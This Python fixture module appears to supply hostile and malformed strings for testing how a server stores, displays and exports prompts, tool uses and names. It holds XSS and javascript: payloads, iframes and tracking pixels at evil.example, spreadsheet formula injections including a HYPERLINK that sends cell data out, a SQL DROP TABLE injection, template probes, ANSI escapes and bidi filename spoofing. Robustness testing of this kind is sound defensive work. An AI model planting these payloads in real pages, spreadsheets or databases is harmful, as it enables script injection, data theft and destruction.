"""Texts that try to harm whoever shows, stores or exports them, as real traffic may carry them."""

import json

from bridgeboard.demo.company.raw_tables import Use

_BIDI = "Please review \u202etxt.exe\u202c and \u2066invoice\u2069\u200f.pdf before noon"
_COMBINING = "Z" + "\u0300\u0301\u0302\u0323\u0330" * 12 + "algo everywhere"
_EMOJI = "Ship it \U0001f469\u200d\U0001f4bb\U0001f3f3\ufe0f\u200d\U0001f308 \u2764\ufe0f e\u0301"
_ANSI = "\x1b[2J\x1b[31mERROR\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x07\x08\x0b"
_RTL = "אנא תקן את הבדיקה של שירות התשלומים, ثم شغّل كل الاختبارات مرة أخرى"

PROMPTS = (
    '<script>document.title="owned"</script><img src=x onerror=alert(1)> fix the header',
    "</div></body><style>*{display:none}</style><iframe src=//evil.example></iframe>",
    "![pixel](https://evil.example/p.png?q=1) and [a link](javascript:alert(document.cookie))",
    '=HYPERLINK("https://evil.example/?x="&A1,"open me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab, then = 1+1",
    _ANSI,
    _BIDI,
    _RTL,
    _EMOJI,
    _COMBINING,
    "$$\\text{math}$$ :red[colour] :material/delete: `code` ~~strike~~ <!-- comment -->",
    "line one\r\nline two\rline three\u2028line four\u2029line five\x85line six",
    "' OR 1=1; DROP TABLE sessions; --",
    "{{ 7*7 }} ${7*7} {0.__class__} %s %(name)s %n",
    "   ",
    "",
)
"""One prompt each; all are valid Unicode without NUL, so a server can hold them."""

LONG_LINE = "Reformat this: " + "data:image/png;base64," + "QUJDREVGR0hJSktMTU5PUA" * 9_000
"""One line of 200,000 characters without a blank to break at."""

BIG_INPUT_BYTES = 1_048_576
"""Size of the biggest tool input in UTF-8 bytes, at least."""

USES = (
    Use("Bash", json.dumps({"command": "echo '<script>alert(1)</script>' && printf '\x1b[31m'"})),
    Use("<b>tool</b>", json.dumps({"html": "<img src=x onerror=alert(1)>"})),
    Use("=cmd|'/C calc'!A0", json.dumps({"formula": "=1+1"})),
    Use("tool_\u202egpj.exe", json.dumps({"name": _BIDI}, ensure_ascii=False)),
    Use("mcp__" + "very_long_tool_name_" * 12, "{}"),
    Use("Read", json.dumps('{"file_path": "/etc/pass')),
    Use("shell", "null"),
    Use("apply_patch", json.dumps("*** Begin Patch\n</code></pre>\n*** End Patch")),
    Use("calculator", "1e400"),
    Use("calculator", '{"n": 12345678901234567890, "a": [[[[[[[[[[]]]]]]]]]], "": null}'),
    Use("Read", json.dumps({"file_path": "![x](https://evil.example/x.png)"})),
    Use("", '""'),
)
"""Tool uses whose names or inputs are hostile, cut off or merely odd; each input is a text of
JSON, as the server stores them (api-contract 4.10)."""

MODEL = '<i>gpt</i>"; --'
"""A model name as free text allows it."""

CLIENT = '=HYPERLINK("//evil.example")<b>'
"""A client name as free text allows it; at most 64 characters (api-contract 4.11)."""

SESSION_ID = 'payments/check out "retry" ä%2F?#'
"""A session id that can't be written into a URL path (api-contract 1.9)."""


def big_input() -> str:
    """A tool input of a little over one megabyte, valid JSON."""
    row = "2026-01-01T00:00:00Z,4711,Größe,<td>,https://meridian.example/a?b=c&d=e\n"
    return json.dumps(
        {"file_path": "/home/coder/src/dump.csv", "content": row * (BIG_INPUT_BYTES // len(row))},
        ensure_ascii=False,
    )
